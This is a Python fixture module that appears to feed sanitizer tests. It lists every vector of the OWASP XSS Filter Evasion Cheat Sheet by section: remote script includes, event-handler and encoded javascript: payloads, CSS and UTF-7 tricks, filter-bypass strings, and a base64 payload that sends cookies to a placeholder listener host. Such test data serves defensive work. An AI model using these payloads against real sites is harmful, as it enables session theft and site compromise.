"""Every vector of the OWASP XSS Filter Evasion Cheat Sheet, typed in, by the sheet's sections.

Source: OWASP Cheat Sheet Series, cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.md
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), two
revisions of github.com/OWASP/CheatSheetSeries: 074dfa950ed096abbe3c515b437b1ddcfb923eb7 and
47023d81c2b520157fd89873899236d4393e4d38. Where the later one rewrote a vector (`<IMG SRC=...>`
became `<a href=...>Click Me</a>`) both are here. The sheet's Markdown escapes (`\\<a`, `\\>`) are
removed where they are Markdown's and kept where the sheet shows them inside code. Vectors that are
not HTML (JavaScript, ActionScript, an Apache line, URLs) are here too: they must come out with no
tag and no scheme like the rest.
"""

from __future__ import annotations

# The event handlers the sheet lists under "Attacks Using Event Handlers", as it spells them.
EVENT_HANDLERS = """FSCommand onAbort onActivate onAfterPrint onAfterUpdate onBeforeActivate
onBeforeCopy onBeforeCut onBeforeDeactivate onBeforeEditFocus onBeforePaste onBeforePrint
onBeforeUnload onBeforeUpdate onBegin onBlur onBounce onCellChange onChange onClick onContextMenu
onControlSelect onCopy onCut onDataAvailable onDataSetChanged onDataSetComplete onDblClick
onDeactivate onDrag onDragEnd onDragLeave onDragEnter onDragOver onDragDrop onDragStart onDrop
onEnd onError onErrorUpdate onFilterChange onFinish onFocus onFocusIn onFocusOut onHashChange
onHelp onInput onKeyDown onKeyPress onKeyUp onLayoutComplete onLoad onLoseCapture onMediaComplete
onMediaError onMessage onMouseDown onMouseEnter onMouseLeave onMouseMove onMouseOut onMouseOver
onMouseUp onMouseWheel onMove onMoveEnd onMoveStart onOffline onOnline onOutOfSync onPaste onPause
onPopState onProgress onPropertyChange onReadyStateChange onRedo onRepeat onReset onResize
onResizeEnd onResizeStart onResume onReverse onRowsEnter onRowExit onRowDelete onRowInserted
onScroll onSeek onSelect onSelectionChange onSelectStart onStart onStop onStorage onSyncRestored
onSubmit onTimeError onTrackChange onUndo onUnload onURLFlip seekSegmentTime""".split()

# The sheet's "Character Escape Sequences": every way it lists of writing `<`.
LESS_THAN_ESCAPES = [
    "<", "%3C", "&lt", "&lt;", "&LT", "&LT;",
    "&#60", "&#060", "&#0060", "&#00060", "&#000060", "&#0000060",
    "&#60;", "&#060;", "&#0060;", "&#00060;", "&#000060;", "&#0000060;",
    *(
        f"&#{x}{'0' * zeros}3{c}{semicolon}"
        for c in "cC"
        for x in "xX"
        for semicolon in ("", ";")
        for zeros in range(6)
    ),
    "\\x3c", "\\x3C", "\\u003c", "\\u003C",
]  # fmt: skip

_JS_CHARS = (
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    "&#0000083&#0000039&#0000041"
)
_JS_DECIMAL = (
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;"
    "&#40;&#39;&#88;&#83;&#83;&#39;&#41;"
)
_JS_HEX = (
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
    "&#x58&#x53&#x53&#x27&#x29"
)
_SVG_BASE64 = (
    "PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv"
    " MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAi"
    "IHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNt"
    "YXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg=="
)

VECTORS: dict[str, list[str]] = {
    "basic and polyglot": [
        "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
        "javascript:/*--></title></style></textarea></script></xmp>\n"
        "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    ],
    "malformed a and img tags": [
        '<a onmouseover="alert(document.cookie)">xxs link</a>',
        "<a onmouseover=alert(document.cookie)>xxs link</a>",
        '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        '<a href="javascript:alert(String.fromCharCode(88,83,83))">Click Me!</a>',
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC= onmouseover=\"alert('xxs')\">",
        "<IMG onmouseover=\"alert('xxs')\">",
        '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
        f'<img src=x onerror="{_JS_CHARS}">',
    ],
    "character references": [
        f"<IMG SRC={_JS_DECIMAL}>",
        f'<a href="{_JS_DECIMAL}">Click Me!</a>',
        f"<IMG SRC={_JS_CHARS}>",
        f'<a href="{_JS_CHARS}">Click Me</a>',
        f"<IMG SRC={_JS_HEX}>",
        f'<a href="{_JS_HEX}">Click Me</a>',
    ],
    "tab, newline, carriage return, null and spaces in the scheme": [
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<a href=\"jav\tascript:alert('XSS');\">Click Me</a>",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<a href=\"jav&#x09;ascript:alert('XSS');\">Click Me</a>",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<a href=\"jav&#x0A;ascript:alert('XSS');\">Click Me</a>",
        "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
        "<a href=\"jav&#x0D;ascript:alert('XSS');\">Click Me</a>",
        '<IMG SRC=java\x00script:alert("XSS")>',
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<a href=\" &#14;  javascript:alert('XSS');\">Click Me</a>",
    ],
    "non-alpha-non-digit, brackets, half-open tags": [
        '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
        '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
        '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
        '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
        '<<SCRIPT>alert("XSS");//<</SCRIPT>',
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "<SCRIPT SRC=//xss.rocks/.j>",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "<IMG SRC=\"javascript:alert('XSS')\"",
        "<iframe src=http://xss.rocks/scriptlet.html <",
    ],
    "escaping javascript escapes, end title tag": [
        "\\\";alert('XSS');//",
        "</script><script>alert('XSS');</script>",
        '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    ],
    "url-valued attributes": [
        '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<IMG LOWSRC=\"javascript:alert('XSS')\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
        '<IMG SRC="livescript:[code]">',
        "<svg/onload=alert('XSS')>",
        "Set.constructor`alert\\x28document.domain\\x29",
        "<BODY ONLOAD=alert('XSS')>",
    ],
    "event handlers on body": [f"<BODY {name}=alert('XSS')>" for name in EVENT_HANDLERS],
    "event handlers on an unknown element": [
        f"<XSS {name}=alert('XSS')>" for name in EVENT_HANDLERS
    ],
    "bgsound, br, link and style sheets": [
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<BR SIZE=\"&{alert('XSS')}\">",
        '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
        '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
        '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
        'exp/*<A STYLE=\'no\\xss:noxss("*//*");\nxss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
        "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
        "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
        '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
        '<STYLE type="text/css">BODY{background:url("<javascript:alert>(\'XSS\')")}</STYLE>',
        "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
        '<XSS STYLE="behavior: url(xss.htc);">',
        "¼script¾alert(¢XSS¢)¼/script¾",
    ],
    "meta": [
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
        '<META HTTP-EQUIV="refresh" '
        'CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
        '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
    ],
    "frames, tables and divs": [
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
        "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058"
        ".1053\\0053\\0027\\0029'\\0029\">",
        "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    ],
    "comments, base, object, embed": [
        "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
        '<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>',
        f'<EMBED SRC="data:image/svg+xml;base64,{_SVG_BASE64}" type="image/svg+xml" '
        'AllowScriptAccess="always"></EMBED>',
        'a="get";\nb="URL(\\"";\nc="javascript:";\nd="alert(\'XSS\');\\")";\neval(a+b+c+d);',
    ],
    "xml data islands and html+time": [
        '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>\n'
        '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
        '<XML SRC="xsstest.xml" ID=I></XML>\n<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>',
        "<HTML><BODY>\n"
        '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">\n'
        '<?import namespace="t" implementation="#default#time2">\n'
        '<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>">\n'
        "</BODY></HTML>",
    ],
    "few characters, server side includes, php, embedded commands, cookies, utf-7": [
        '<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>',
        "<!--#exec cmd=\"/bin/echo '<SCR'\"-->"
        "<!--#exec cmd=\"/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'\"-->",
        "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
        '<IMG SRC="http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode">',
        '<IMG SRC="httx://badguy.com/a.jpg">',
        "Redirect 302 /a.jpg http://victimsite.com/admin.asp&deleteuser",
        '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
        '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>'
        "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    ],
    "quote encapsulation": [
        '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
        '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
        '<SCRIPT a=">" \'\' SRC="httx://xss.rocks/xss.js"></SCRIPT>',
        '<SCRIPT "a=\'>\'" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
        '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>',
        '<SCRIPT a=">\'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>',
        '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
    ],
    "url string evasion": [
        '<A HREF="http://66.102.7.147/">XSS</A>',
        '<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>',
        '<A HREF="http://1113982867/">XSS</A>',
        '<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>',
        '<A HREF="http://0102.0146.0007.00000223/">XSS</A>',
        "<img onload=\"eval(atob('ZG9jdW1lbnQubG9jYXRpb249Imh0dHA6Ly9saXN0ZXJuSVAvIitkb2N1bWVu"
        "dC5jb29raWU='))\">",
        '<A HREF="h \ntt  p://6\t6.000146.0x7.147/">XSS</A>',
        '<A HREF="h\ntt  p://6\t6.000146.0x7.147/">XSS</A>',
        '<A HREF="//www.google.com/">XSS</A>',
        '<A HREF="//google">XSS</A>',
        '<A HREF="http://ha.ckers.org@google">XSS</A>',
        '<A HREF="http://google:ha.ckers.org">XSS</A>',
        '<A HREF="http://google.com/">XSS</A>',
        '<A HREF="http://www.google.com./">XSS</A>',
        "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
        '<A HREF="http://www.google.com/ogle.com/">XSS</A>',
    ],
    "http parameter pollution": [
        'a href="/Share?content_type=1&title=<%=Encode.forHtmlAttribute(untrusted content title)'
        '%>">Share</a>',
        '<script>\nvar contentType = <%=Request.getParameter("content_type")%>;\n'
        'var title = "<%=Encode.forJavaScript(request.getParameter("title"))%>";\n...\n'
        "//some user agreement and sending to server logic might be here\n...\n</script>",
        "This is a regular title&content_type=1;alert(1)",
        '<a href="/share?content_type=1&title=This is a regular title&amp;content_type=1;alert(1)"'
        ">Share</a>",
        '<script>\nvar contentType = 1; alert(1);\nvar title = "This is a regular title";\n…\n'
        "//some user agreement and sending to server logic might be here\n…\n</script>",
    ],
    "every escape of < in front of a tag": [
        f"{escape}img src=x onerror=alert(1)>" for escape in LESS_THAN_ESCAPES
    ],
    "waf: reflected, dom-based and redirection": [
        '<script> ... setTimeout(\\\\"writetitle()\\\\",$_GET[xss]) ... </script>',
        "/?xss=500); alert(document.cookie);//",
        "<script> ... eval($_GET[xss]); ... </script>",
        "/?xss=document.cookie",
        "...\nheader('Location: '.$_GET['param']);\n...",
        "...\nheader('Refresh: 0; URL='.$_GET['param']);\n...",
        "/?param=<javascript:alert(document.cookie>)",
        "/?param=<data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=",
    ],
    "waf bypass strings": [
        '<Img src = x onerror = "javascript: window.onerror = alert; throw XSS">',
        '<Video> <source onerror = "javascript: alert (XSS)">',
        '<Input value = "XSS" type = text>',
        '<applet code="javascript:confirm(document.cookie);">',
        '<isindex x="javascript:" onmouseover="alert(XSS)">',
        '"></SCRIPT>”>’><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>',
        '"><img src="x:x" onerror="alert(XSS)">',
        '"><iframe src="javascript:alert(XSS)">',
        '<object data="javascript:alert(XSS)">',
        "<isindex type=image src=1 onerror=alert(XSS)>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        '<img  src="x:gif" onerror="window[\'al\\u0065rt\'](0)"></img>',
        '<iframe/src="data:text/html,<svg onload=alert(1)>">',
        '<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; alert(1)" http-equiv="refresh"/>',
        "<svg><script xlink:href=data&colon;,window.open('https://www.google.com/')></script",
        '<meta http-equiv="refresh" content="0;url=javascript:confirm(1)">',
        "<iframe src=javascript&colon;alert&lpar;document&period;location&rpar;>",
        '<form><a href="javascript:\\u0061lert(1)">X',
        "</script><img/*%00/src=\"worksinchrome&colon;prompt(1)\"/%00*/onerror='eval(src)'>",
        "<style>//*{x:expression(alert(/xss/))}//<style></style>",
        '<img src="/" =_=" title="onerror=\'prompt(1)\'">',
        "<a aa aaa aaaa aaaaa aaaaaa aaaaaaa aaaaaaaa aaaaaaaaa aaaaaaaaaa "
        "href=j&#97v&#97script:&#97lert(1)>ClickMe",
        "<script x> alert(1) </script 1=2",
        "<form><button formaction=javascript&colon;alert(1)>CLICKME",
        '<input/onmouseover="javaSCRIPT&colon;confirm&lpar;1&rpar;"',
        '<iframe src="data:text/html,%3C%73%63%72%69%70%74%3E%61%6C%65%72%74%28%31%29%3C%2F%73'
        '%63%72%69%70%74%3E"></iframe>',
        '<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83">'
        '<PARAM NAME="DataURL" VALUE="javascript:alert(1)"></OBJECT> ',
    ],
    "alert obfuscation": [
        "(alert)(1)",
        "a=alert,a(1)",
        "[1].find(alert)",
        "top[“al”+”ert”](1)",
        "top[/al/.source+/ert/.source](1)",
        "al\\u0065rt(1)",
        "top[‘al\\145rt’](1)",
        "top[‘al\\x65rt’](1)",
        "top[8680439..toString(30)](1)",
        "alert?.()",
        "(alert())",
        "&#96;`${alert``}`&#96;",
    ],
}
